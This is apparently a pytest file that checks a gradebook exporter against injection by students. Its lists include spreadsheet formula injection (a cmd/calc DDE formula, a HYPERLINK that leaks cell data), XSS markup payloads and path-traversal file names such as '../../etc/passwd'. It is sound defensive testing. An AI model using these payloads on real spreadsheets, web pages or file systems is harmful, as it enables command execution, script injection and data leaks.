"""Attacks on whoever opens the tables and pages: formulas, markup, file names, invisible signs, floods."""

from __future__ import annotations

import csv
import html.parser
import unicodedata
from pathlib import Path

import pytest
from gradebook_classes import HIDDEN_VALUE, check_row, graded, not_graded, write_results

from scalelab.core.table_cells import original_cell, plain_text, safe_cell, visible_id
from scalelab.gradebook import merge_marks, write_gradebook
from scalelab.gradebook.page_names import page_names

FORMULAS = (
    "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＠SUM(A1)", " =1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\xa0=1+1", '=HYPERLINK("http://x.example/"&A1,"open")',
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</style><script>alert(1)</script>",
    '"><svg/onload=alert(1)>', "' onmouseover='alert(1)", "<a href='javascript:alert(1)'>open</a>",
    "`</code><iframe src=//x.example>`", "<!--", "]]><script>alert(1)</script>",
    "&lt;script&gt;", "$style ${style}",
    "<meta http-equiv=refresh content='0;url=//x.example'>", "</title><script>alert(1)</script>",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..", ".", "/etc/passwd", "C:\\Windows\\x", "a/b", "a\\b", "con", "NUL",
    "com1.txt", "", " ", "a\x00b", "a\nb", "-rf", "~root", "%2e%2e%2f", "x" * 5000, "नेहा" * 400,
    "a:b", "ann ", "ann.", "*?<>|",
)  # fmt: skip
ALLOWED_TAGS = set(
    "html head meta title style body h1 h2 h3 p div i section article span code blockquote ul li".split()  # noqa: SIM905
)


class Page(html.parser.HTMLParser):
    """Collects tags, attributes and text of a page."""

    def __init__(self, text: str):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def cells(path: Path) -> list[str]:
    csv.field_size_limit(10**9)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_of_a_student_becomes_a_formula(tmp_path, text):
    write_results(tmp_path, [
        graded(text, {"weights": "failed"}, written={"why": text, text: "because"}, notes=[text]),
        not_graded("ravi", "refused", text),
    ])  # fmt: skip
    roster = tmp_path / "class.csv"
    roster.write_text(
        'student,name,email\nravi,"' + text.replace('"', '""') + '",r@uni.in\n', encoding="utf-8"
    )
    write_gradebook(tmp_path, roster=roster, title=text, column=text)
    for name in ("gradebook.csv", "canvas.csv", "moodle.csv", "nbgrader.csv", "written.csv"):
        for cell in cells(tmp_path / name):
            seen = cell.lstrip(" \xa0" + "".join(map(chr, (0x200B, 0xFEFF, 0x202E))))
            assert not seen.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), (
                name,
                cell,
            )


@pytest.mark.parametrize("text", ["=1", "'=1", "plain", "", "'", "-5", "\u200b@x", "it's"])
def test_a_quoted_cell_comes_back_as_it_was(text):
    assert original_cell(str(safe_cell(text))) in {text, text.removeprefix("'")}
    assert safe_cell(original_cell(str(safe_cell(text)))) == safe_cell(text)


@pytest.mark.parametrize("text", MARKUP)
def test_no_text_of_a_student_becomes_markup_on_the_page(tmp_path, text):
    row = check_row("weights", "failed", message=text, meaning=text, hint=text, code=text)
    grade = graded(text, notes=[text], written={"why": text, text: text}, attempts=[text])
    grade.checks[0].update(row)
    write_results(tmp_path, [grade])
    write_gradebook(tmp_path, title=text)
    (path,) = (tmp_path / "feedback").iterdir()
    page = Page(path.read_text(encoding="utf-8"))
    assert {tag for tag, _ in page.tags} <= ALLOWED_TAGS
    attributes = {name for _, attrs in page.tags for name in attrs}
    assert attributes <= {
        "lang",
        "charset",
        "name",
        "content",
        "http-equiv",
        "class",
        "style",
        "role",
        "aria-label",
    }
    metas = [attrs for tag, attrs in page.tags if tag == "meta"]
    assert [attrs.get("http-equiv") for attrs in metas].count("Content-Security-Policy") == 1
    assert "refresh" not in str(metas)
    assert plain_text(text).strip("`") in "".join(page.text).replace("`", "")


@pytest.mark.parametrize("text", MARKUP)
def test_no_text_of_a_student_becomes_markup_on_the_dashboard(tmp_path, text):
    alike = {"accumulate": list(range(40))}
    other = [graded(f"s{n}", fingerprints={"accumulate": [100 * n + k for k in range(40)]}) for n in range(4)]
    row = check_row("weights", "failed", meaning=text, code=text)
    bad = graded(text, fingerprints=alike)
    bad.checks[0].update(row)
    write_results(
        tmp_path, [bad, graded(text + "2", fingerprints=alike), not_graded("r", "refused", text), *other]
    )
    write_gradebook(tmp_path, title=text)
    whole = (tmp_path / "dashboard.html").read_text(encoding="utf-8")
    start = whole.index("<body>")
    scripts = whole[start:].count("<script")
    page = Page(whole[start:])
    tags = [tag for tag, _ in page.tags]
    assert tags.count("script") == scripts
    assert not {"img", "svg", "iframe", "a", "meta", "object"} & set(tags)
    assert not [attrs for _, attrs in page.tags if any(name.startswith("on") for name in attrs)]
    assert "likeness" in whole  # the pair is shown, by escaped names
    assert "alert(1)</script>" not in whole


def test_page_names_are_single_safe_parts_of_a_path_and_all_unlike():
    names = page_names(PATHS)
    assert len({name.casefold() for name in names.values()}) == len(PATHS)
    for student, name in names.items():
        assert Path(name).name == name, student
        assert not set(name) & set('/\\:*?"<>|\x00\n %'), (student, name)
        assert not name.startswith((".", "-", "~"))
        assert len(name.encode()) < 200
        assert name.split(".")[0].casefold() not in {"con", "nul", "com1"}
        assert not any(unicodedata.category(sign).startswith("C") for sign in name)


def test_ids_that_differ_by_case_or_form_or_look_like_a_hash_have_pages_of_their_own():
    plain = page_names(["Ann", "ann", "e\u0301va", "\u00e9va", "bob"])
    forged = plain["Ann"].removesuffix(".html")
    names = page_names(["Ann", "ann", "e\u0301va", "\u00e9va", "bob", forged])
    assert names["bob"] == "bob.html"
    assert len({unicodedata.normalize("NFC", name).casefold() for name in names.values()}) == 6


def test_pages_stay_in_their_folder(tmp_path):
    out = tmp_path / "deep" / "grades"
    write_results(out, [graded(student) for student in PATHS if "\x00" not in student])
    write_gradebook(out)
    assert len(list((out / "feedback").iterdir())) == len(PATHS) - 1
    assert {path.name for path in tmp_path.rglob("*") if path.suffix == ".html"} == {
        *(path.name for path in (out / "feedback").iterdir()), "dashboard.html",
    }  # fmt: skip


def test_nothing_of_a_hidden_check_but_goal_and_outcome_is_on_the_page(tmp_path):
    """Its message has values that were drawn, its name and code may say what is tried."""
    grade = graded("mira", {"accumulate-corners": "failed"})
    grade.checks[-1]["hint"] = "try the seed 987654321"
    write_results(tmp_path, [grade])
    write_gradebook(tmp_path)
    page = (tmp_path / "feedback" / "mira.html").read_text()
    assert grade.checks[-1]["goal"] in page
    for secret in (HIDDEN_VALUE, "987654321", "0.123456789", "nan-corner", "accumulate-corners", "0/0 where"):
        assert secret not in page


def test_a_check_that_is_hidden_now_stays_hidden_in_an_older_row(tmp_path):
    old = graded("mira", {"accumulate-corners": "failed"}, graded_at="2026-01-01T00:00:00+00:00")
    old.checks[-1]["is_hidden"] = False
    write_results(tmp_path, [old, graded("ravi")])
    write_gradebook(tmp_path)
    assert "987654321" not in (tmp_path / "feedback" / "mira.html").read_text()


def test_isolation_machine_and_paths_are_nobodys_business(tmp_path):
    write_results(tmp_path, [graded("mira", isolation=["no network"], submission="in/secret-folder/x.ipynb")])
    write_gradebook(tmp_path)
    page = (tmp_path / "feedback" / "mira.html").read_text()
    assert "no network" not in page
    assert "secret-folder" not in page


def test_signs_that_turn_or_hide_text_are_written_out_or_gone(tmp_path):
    twin = "mira\u200b"
    turned = "gpj.\u202eexe"
    write_results(tmp_path, [graded("mira"), graded(twin), graded("ravi", written={"why": turned})])
    write_gradebook(tmp_path)
    table = (tmp_path / "gradebook.csv").read_text()
    assert "mira\\u200b," in table
    assert table.count("\nmira") == 2
    for path in (*tmp_path.glob("*.csv"), *(tmp_path / "feedback").iterdir()):
        assert not set(path.read_text(encoding="utf-8-sig")) & set("\u202e\u200b"), path
    assert visible_id("mira\\u200b") != visible_id(twin)


def test_joiners_of_a_script_stay_in_the_text():
    assert plain_text("क्\u200dष") == "क्\u200dष"


def test_marks_of_an_id_full_of_signs_find_their_student(tmp_path):
    student = '=ann\u200b\\x, "the" 2nd'
    write_results(tmp_path, [graded(student, written={"why": "Because."})])
    write_gradebook(tmp_path)
    table = list(csv.DictReader((tmp_path / "written.csv").read_text(encoding="utf-8-sig").splitlines()))
    table[0] |= {"mark": "2", "max": "4"}
    with (tmp_path / "filled.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(table[0]))
        writer.writeheader()
        writer.writerows(table)
    assert merge_marks(tmp_path, tmp_path / "filled.csv").new == 1


def test_a_flood_of_text_makes_no_page_or_cell_that_cannot_be_opened(tmp_path):
    flood = "=A " * 2_000_000
    grade = graded("mira", {"weights": "failed"}, written={f"q{n}": flood for n in range(5)}, notes=[flood])
    grade.checks[0]["message"] = flood
    write_results(tmp_path, [grade])
    write_gradebook(tmp_path)
    assert (tmp_path / "feedback" / "mira.html").stat().st_size < 200_000
    assert max(len(cell) for cell in cells(tmp_path / "written.csv")) < 32_767


def test_pages_ask_nothing_of_the_network(tmp_path):
    write_results(tmp_path, [graded("mira")])
    write_gradebook(tmp_path)
    for path in (tmp_path / "feedback" / "mira.html", tmp_path / "dashboard.html"):
        page = Page(path.read_text(encoding="utf-8"))
        assert not [attrs for _, attrs in page.tags if {"src", "href", "srcset", "action"} & set(attrs)]
